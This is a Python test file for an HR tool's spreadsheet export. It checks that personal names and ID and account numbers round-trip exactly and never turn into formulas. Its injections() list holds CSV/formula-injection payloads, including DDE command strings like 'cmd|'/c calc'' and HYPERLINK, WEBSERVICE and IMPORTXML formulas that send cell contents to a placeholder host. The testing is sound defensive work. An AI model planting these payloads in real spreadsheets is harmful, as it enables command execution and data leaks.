"""Whatever a name contains, it comes back letter by letter and never as a formula (P16)."""

import itertools
import random
import zipfile
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from defusedxml import ElementTree
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from hrdesk.domain.batch_spec import BatchColumn, CellFormat
from hrdesk.workbooks.batch_sheet import BatchSheet
from hrdesk.workbooks.cell_checks import check_cells
from hrdesk.workbooks.writing import write_workbook
from tests.people import card_numbers, identity_numbers
from tests.workbooks.batches import batch_of, written

COLUMNS = (
    BatchColumn("姓名", "name", CellFormat.TEXT, 10),
    BatchColumn("证件号码", "case.identity_number", CellFormat.TEXT, 10),
    BatchColumn("账号", "account_number", CellFormat.TEXT, 10),
)
SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
INJECTIONS = 500

#: What XML, spreadsheets or the libraries between might take for something else.
FRAGMENTS = [
    *("=", "+", "-", "@", "'", "\t", "\r", "\n", "\r\n", " ", "\u3000", "\u00a0", "\u2028", "\x85"),
    *("_x0041_", "_x005F_", "_x000D_", "_x005F_x0041_", "_xD83D_", "x005F_", "_", "_X0041_"),
    *("<r>", "</r>", "<f>1+1</f>", "</t></is></c>", "<![CDATA[", "]]>", "&amp;", "&#13;", "&", '"'),
    *("{=1}", "http://a.b", "mailto:a", "1e5", "007", "TRUE", "2026-03-18", "#REF!", "\ufeff"),
    *("𬭎", "䶮", "\uf900", "e\u0301", "\u200b", "\x7f", "👩\u200d🌾", "ꆈ"),
]
TEXTS = st.one_of(
    st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff")),
    st.lists(st.sampled_from(FRAGMENTS), max_size=6).map("".join),
    st.text("_x0145FDd", max_size=24),
)


def book_of(sheet: BatchSheet) -> BytesIO:
    check_cells(sheet)
    target = BytesIO()
    write_workbook(target, sheet)
    return target


def sheet_root(book: BytesIO) -> ElementTree:
    with zipfile.ZipFile(book) as archive:
        return ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))


@pytest.fixture(scope="module")
def place(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("books") / "b.xlsx"


@settings(max_examples=40)
@given(st.lists(TEXTS, min_size=1, max_size=40))
def test_any_text_comes_back_identical_for_three_readers(place, texts):
    sheet = batch_of([(text, text, text) for text in texts], COLUMNS, titles=())
    written(sheet, place)
    opened = openpyxl.load_workbook(place)["申报"]
    # openpyxl leaves the escapes of ECMA-376 part 1, 22.4.2.4 to whoever asks.
    assert [unescape(row[0].value or "") for row in opened.iter_rows(min_row=2)] == texts
    found = CalamineWorkbook.from_path(place).get_sheet_by_index(0)
    top, left = found.start
    assert (top, left) == (0, 0)
    seen = [row[0] for row in found.to_python()[1:]]
    assert seen + [""] * (len(texts) - len(seen)) == texts
    root = sheet_root(BytesIO(place.read_bytes()))
    cells = list(root.iter(f"{SPACE}c"))
    raw = ["".join(text.itertext()) for text in (c.find(f"{SPACE}is") for c in cells[3::3]) if text]
    assert [unescape(text) for text in raw] == [text for text in texts if text]


@settings(max_examples=25)
@given(st.lists(st.tuples(TEXTS, identity_numbers(), card_numbers()), min_size=1, max_size=40))
def test_numbers_of_people_and_accounts_come_back_digit_by_digit(place, rows):
    written(batch_of(rows, COLUMNS), place)
    opened = openpyxl.load_workbook(place)["申报"]
    found = [[cell.value for cell in row[1:3]] for row in opened.iter_rows(min_row=4)]
    assert found == [[identity, account] for _, identity, account in rows]


def injections() -> list[str]:
    """Formulas, commands, links and markup as they are tried on spreadsheets."""
    heads = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "==", "=-", "\u200b=", "＝"]
    bodies = [
        *('HYPERLINK("http://a.b?"&A1,"点")', "cmd|'/c calc'!A0", "1+1", "SUM(A1:A9)", "A1"),
        *('WEBSERVICE("http://a.b/"&A1)', 'IMPORTXML("http://a.b","//a")', "DDE(a;b;c)", "1"),
        *("1+1</t></is></c><c><f>1+1</f></c>", "<r><t>1</t></r>", "]]><f>1</f>", "&lt;f&gt;1"),
        *("_x003D_1+1", "{1+1}", "[1]Sheet!A1", "rundll32|a!b", "MSEXCEL|'\\..\\a'!''"),
    ]
    tried = ["".join(pair) for pair in itertools.product(heads, bodies)]
    tried += ["<r><t>=1</t></r>", "<f>1+1</f>", '<c t="str"><f>1</f></c>', *FRAGMENTS]
    chance = random.Random(16)
    while len(tried) < INJECTIONS:
        tried.append("".join(chance.choices([*heads, *bodies, *FRAGMENTS], k=3)))
    return tried[:INJECTIONS]


def test_none_of_five_hundred_injections_becomes_a_formula(place):
    texts = injections()
    assert len(set(texts)) > INJECTIONS * 0.95
    sheet = batch_of([(text, text, text) for text in texts], COLUMNS, titles=("=1+1", "@SUM(A1)"))
    written(sheet, place)
    opened = openpyxl.load_workbook(place)
    cells = [cell for page in opened for row in page.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert [cell for cell in cells if cell.hyperlink is not None] == []
    with zipfile.ZipFile(place) as archive:
        names = archive.namelist()
        roots = [ElementTree.fromstring(archive.read(name)) for name in names]
    assert [found for root in roots for found in root.iter(f"{SPACE}f")] == []
    assert not any("external" in name or "hyperlink" in name.lower() for name in names)
    types = {
        cell.get("t") for cell in roots[names.index("xl/worksheets/sheet1.xml")].iter(f"{SPACE}c")
    }
    assert types == {"inlineStr"}
    opened = opened["申报"]
    assert [unescape(row[0].value) for row in opened.iter_rows(min_row=4)] == texts


def test_the_frame_holds_no_text_of_a_case_that_a_library_could_take_for_markup(place):
    sheet = batch_of([("<r><t>x</t></r>", "", "")], COLUMNS, titles=("<r><t>y</t></r>",))
    written(sheet, place)
    with zipfile.ZipFile(place) as archive:
        for name in archive.namelist():
            if not name.startswith("xl/worksheets/"):
                assert b"<r>" not in archive.read(name)
        assert b"<r>" not in archive.read("xl/worksheets/sheet1.xml")
